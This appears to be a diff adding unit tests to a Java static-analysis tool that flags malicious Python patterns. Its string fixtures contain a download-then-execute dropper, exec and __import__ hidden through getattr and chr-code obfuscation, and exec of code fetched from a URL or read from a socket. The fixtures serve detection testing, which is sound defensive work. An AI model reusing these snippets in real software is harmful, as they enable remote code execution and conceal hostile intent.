@@ -6,6 +6,8 @@ import dev.kingsnake.Severity;
 import dev.kingsnake.internal.python.ParseOutcome;
 import dev.kingsnake.internal.python.PythonParser;
 import dev.kingsnake.internal.python.semantic.SemanticModel;
+import dev.kingsnake.rules.exec.ComputedImportRule;
+import dev.kingsnake.rules.exec.DownloadedCodeExecutionRule;
 import dev.kingsnake.rules.exfil.KeyMaterialSendRule;
 import dev.kingsnake.rules.network.DownloadRule;
 import dev.kingsnake.rules.obfuscation.ObfuscatorMarkerRule;
@@ -82,6 +84,57 @@ class HelperFunctionRulesTest {
         List<Reported> build = run(new DropperRule(), src.replace("launch('u.bin')", "launch('other.cfg')"));
         assertEquals(1, build.size(), build.toString());
         assertEquals(Severity.MEDIUM, build.get(0).severity());
+    }
+
+    @Test
+    void runningTheVeryFileJustDownloadedIsCriticalMarkingAFileExecutableIsHigh() {
+        String src = "import os, subprocess, requests\n"
+                + "def fetch(url, path):\n"
+                + "    r = requests.get(url)\n"
+                + "    with open(path, 'wb') as f:\n"
+                + "        f.write(r.content)\n"
+                + "    subprocess.run([path])\n";
+        List<Reported> r = run(new DropperRule(), src);
+        assertEquals(1, r.size(), r.toString());
+        assertEquals(new Reported(6, Severity.CRITICAL, Confidence.HIGH, r.get(0).message()), r.get(0));
+        List<Reported> chmod = run(new DropperRule(), src.replace("subprocess.run([path])", "os.chmod(path, 0o755)"));
+        assertEquals(1, chmod.size(), chmod.toString());
+        assertEquals(Severity.HIGH, chmod.get(0).severity());
+    }
+
+    @Test
+    void hidingSeveralDifferentPrimitivesIsHighOneIsMedium() {
+        String one = "import builtins\n"
+                + "run = getattr(builtins, 'ex' + 'ec')\n";
+        List<Reported> r = run(new ComputedImportRule(), one);
+        assertEquals(1, r.size(), r.toString());
+        assertEquals(Severity.MEDIUM, r.get(0).severity());
+        String two = one + "imp = getattr(builtins, ''.join(chr(c) for c in [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))\n";
+        List<Reported> both = run(new ComputedImportRule(), two);
+        assertEquals(2, both.size(), both.toString());
+        assertTrue(both.stream().allMatch(x -> x.severity() == Severity.HIGH && x.confidence() == Confidence.HIGH),
+                both.toString());
+        // the same name hidden twice is still one hidden name
+        List<Reported> same = run(new ComputedImportRule(), one + "again = getattr(builtins, 'e' + 'xec')\n");
+        assertTrue(same.stream().allMatch(x -> x.severity() == Severity.MEDIUM), same.toString());
+    }
+
+    @Test
+    void codeFetchedFromAUrlIsCriticalCodeReceivedOnASocketIsHigh() {
+        String src = "import requests, socket\n"
+                + "def update():\n"
+                + "    exec(requests.get('https://example.invalid/p').text)\n"
+                + "def serve(sock):\n"
+                + "    reply = sock.recv(4096)\n"
+                + "    exec(reply)\n"
+                + "def other():\n"
+                + "    reply = open('local.py').read()\n"
+                + "    exec(reply)\n";
+        List<Reported> r = run(new DownloadedCodeExecutionRule(), src);
+        assertEquals(List.of(3, 6), r.stream().map(Reported::line).toList(), r.toString());
+        assertEquals(Severity.CRITICAL, r.get(0).severity());
+        assertEquals(Severity.HIGH, r.get(1).severity());
+        assertEquals(Confidence.MEDIUM, r.get(1).confidence());
     }
 
     @Test
